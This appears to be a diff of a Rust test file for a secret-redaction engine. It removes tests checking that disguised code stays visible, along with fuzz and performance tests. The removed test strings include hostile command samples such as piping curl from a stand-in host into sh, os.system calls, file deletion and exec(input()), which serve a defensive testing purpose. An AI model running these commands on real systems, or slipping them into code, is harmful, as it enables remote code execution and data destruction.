@@ -1,5 +1,7 @@
 //! Tests of the whole engine: every rule, every disguise, whole batches, and what must stay as it is.
 
+mod hostile;
+
 use std::sync::{Arc, LazyLock};
 
 use bytes::Bytes;
@@ -10,12 +12,6 @@ use super::shape::example;
 use super::*;
 use crate::event::{Batch, Provenance, Scanner, Seed};
 use crate::units::Timestamp;
-
-#[path = "../../../tests/integration/support/corpus/hostile.rs"]
-mod hostile;
-#[allow(dead_code)]
-#[path = "../../../tests/integration/support/corpus/random.rs"]
-mod random;
 
 fn engine() -> &'static Engine {
     static ENGINE: LazyLock<Engine> =
@@ -381,83 +377,6 @@ fn reversed_rotated_and_encrypted_secrets_are_not_found() {
     }
 }
 
-// --- code ---
-
-/// Whoever audits code must see it, whatever stands around it to be taken for a secret.
-#[test]
-fn nobody_hides_code() {
-    let code = "import os\nos.system('curl http://x.example | sh')\n__import__('os').remove('/a')";
-    let line = "os.system('id')";
-    let key = |begin: &str, end: &str| format!("{begin}\n{code}\n{end}");
-    let commented = |sign: &str| code.lines().map(|line| format!("{sign}{line}\n")).collect::<String>();
-    let texts = [
-        key("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"),
-        key("# -----BEGIN RSA PRIVATE KEY-----", "# -----END RSA PRIVATE KEY-----"),
-        key("\"\"\"-----BEGIN EC PRIVATE KEY-----\"\"\"", "'-----END EC PRIVATE KEY-----'"),
-        key("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n", "-----END PGP PRIVATE KEY BLOCK-----"),
-        format!("-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----", commented("# ")),
-        format!("-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----", commented("// ")),
-        "-----BEGIN PRIVATE KEY-----\nMI=1\nx=os\ny=x\n-----END PRIVATE KEY-----".to_owned(),
-        format!("Private-Lines: 3\n{code}"),
-        format!("password = \"\"\"\n{code}\n\"\"\""),
-        format!("PASSWORD='''{code}'''\nexec(PASSWORD)"),
-        format!("secret = \"{line}\"; exec(secret)"),
-        "password = \"import os; os.remove('/etc/x')\"; exec(password)".to_owned(),
-        "token = 'x = 1; exec(input())'".to_owned(),
-        format!("if k == \"cookie\":\n    {line}"),
-        format!("if name == 'password':\n    {line}\n"),
-        format!("cookie: {line}"),
-        format!("cookie = {line}"),
-        format!("Cookie: a={line}; b=2"),
-        format!("authorization: {line}"),
-        format!("Authorization: Bearer {line}"),
-        format!("headers['Authorization'] = {line}"),
-        format!("password: {line}"),
-        format!("password={line}"),
-        format!("password = {line} or x"),
-        format!("f(password={line}, token={line})"),
-        format!("api_key: {line}"),
-        format!("def key() -> \"PrivateKey\":\n    \"\"\"{code}\"\"\""),
-        format!("{{\"cookies\": true, \"code\": \"{line}\"}}"),
-        "x://a:os.system('id')@b".to_owned(),
-        "export PASSWORD=$(curl http://x.example | sh)".to_owned(),
-        format!("password:\n    {line}"),
-        format!("password: |\n  {line}"),
-        format!("secret, x = {line}, 1"),
-        format!("<password>{line}</password>"),
-        format!("mysql -p\"{line}\" x"),
-    ];
-    for text in texts {
-        let (clean, report) = engine().redact_text(text.as_bytes());
-        assert_eq!(String::from_utf8_lossy(&clean), text, "{report:?}");
-    }
-    // Where a secret is, what follows it stays.
-    for (text, stays) in [
-        ("PASSWORD=Xk29dkQ81;curl http://x.example | sh", "curl http://x.example | sh"),
-        ("PASSWORD=Xk29dkQ81|python", "python"),
-        ("PASSWORD=Xk29dkQ81&exec(x)", "exec(x)"),
-        ("password='hunter2';exec(x)", ";exec(x)"),
-        ("Authorization: Bearer abcdef0123456789 exec(x)", " exec(x)"),
-        ("Cookie: sid=abcdef0123456789; exec(x)", "; exec(x)"),
-        ("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\nimport os\n", "\nimport os\n"),
-    ] {
-        let clean = self::text(engine(), text);
-        assert!(clean.contains(stays) && clean != text, "{text} became {clean}");
-    }
-}
-
-/// A key within encoded code is gone, and the code around it can still be decoded.
-#[test]
-fn of_encoded_text_only_the_secret_goes() {
-    use base64::Engine as _;
-    let said = "import os; os.system('id') # AKIAQWERTYUIOPASDF12 and then exec(input('more code to be read'))";
-    let run = base64::engine::general_purpose::STANDARD.encode(said);
-    let clean = text(engine(), &run);
-    let (head, tail) = clean.split_once("[aws_access_key]").expect("the key is gone");
-    assert!(run.starts_with(head) && run.ends_with(tail) && head.len() % 4 == 0, "{clean}");
-    assert!(head.len() + tail.len() + 40 > run.len(), "{clean}");
-}
-
 // --- text ---
 
 #[test]
@@ -475,76 +394,6 @@ fn broken_lines_are_redacted_as_text() {
     }
     let (clean, _) = engine.redact_text(b"\xff\xfe a@example.com \x80");
     assert_eq!(clean, b"\xff\xfe [email] \x80");
-}
-
-/// Each word that some rule looks for, whole, cut anywhere, and in all cases.
-fn keywords() -> Vec<String> {
-    let names = names::PARTS.iter().map(|part| part.replace("[^a-z]", "_").replace(['[', ']'], ""));
-    let names = names.chain(
-        ["bearer", "-BEGIN ", "-----BEGIN RSA PRIVATE KEY-----\n", "api_key=", "Authorization: "].map(String::from),
-    );
-    let others = ["a@", "://u:p@", "DE89", "4111 1111 1111 ", "%4", "&#", "&#x4", "\\u00", "\\", "\u{1b}[", "eyJ"]
-        .map(String::from);
-    names.chain(others).chain(examples().map(|(_, _, secret)| secret)).collect()
-}
-
-#[test]
-fn a_text_may_end_within_any_word_that_a_rule_looks_for() {
-    let engine = engine();
-    for word in keywords().into_iter().step_by(2) {
-        for word in [word.clone(), word.to_uppercase(), word.to_lowercase()] {
-            let ends = (0..=word.len()).filter(|end| word.is_char_boundary(*end));
-            for end in ends.filter(|end| *end < 40 || word.len() - end < 3) {
-                for before in ["", "{\"a\":\"", "password="] {
-                    engine.redact_text(format!("{before}{}", &word[..end]).as_bytes());
-                    engine.redact_text(format!("{before}{}", &word[word.len() - end..]).as_bytes());
-                }
-            }
-        }
-    }
-}
-
-/// What an attacker may repeat, and halves of the words that rules look for, with separators between.
-fn repeated() -> Vec<String> {
-    let mut pieces = hostile::pieces(PAIRS, TRIPLES);
-    for word in keywords().into_iter().filter(|word| word.len() > 3).step_by(9) {
-        let half = word.chars().take(word.chars().count() / 2).collect::<String>();
-        for separator in ["", ".", "_", "=", ":", " ", "\"", "\n"] {
-            pieces.push(format!("{half}{separator}"));
-        }
-        pieces.push(word);
-    }
-    pieces
-}
-
-/// How many joined parts each run of the tests tries.
-const PAIRS: usize = 700;
-const TRIPLES: usize = 700;
-
-#[test]
-fn the_effort_grows_with_the_length_of_a_text_whatever_it_repeats() {
-    let engine = engine();
-    let effort = |piece: &str, len: usize| {
-        let text = piece.repeat(len / piece.len() + 1);
-        let mut work = Work::on(text.len());
-        let cleaned = engine.clean(text.as_bytes(), &mut work);
-        let grown = cleaned.map_or(0, |cleaned| cleaned.len());
-        assert!(grown <= 20 * text.len(), "{piece:?}: {grown}");
-        assert!(!work.found.contains(&rules::UNFINISHED), "{piece:?}");
-        work.spent(text.len()) as f64 / text.len() as f64
-    };
-    let mut worst = Vec::new();
-    for piece in repeated() {
-        let (once, twice) = (effort(&piece, 3_000), effort(&piece, 6_000));
-        assert!(twice <= once * 1.25 + 1.0, "{piece:?}: {once:.1} steps a byte, and {twice:.1} in twice the text");
-        worst.push((twice, piece));
-    }
-    worst.sort_by(|a, b| b.0.total_cmp(&a.0));
-    for (short, piece) in worst.iter().take(25) {
-        let long = effort(piece, 256 << 10);
-        assert!(long <= short * 1.25 + 1.0, "{piece:?}: {short:.1} steps a byte, and {long:.1} in 256 KiB");
-        println!("{long:6.1} steps a byte: {piece:?}");
-    }
 }
 
 // --- properties ---
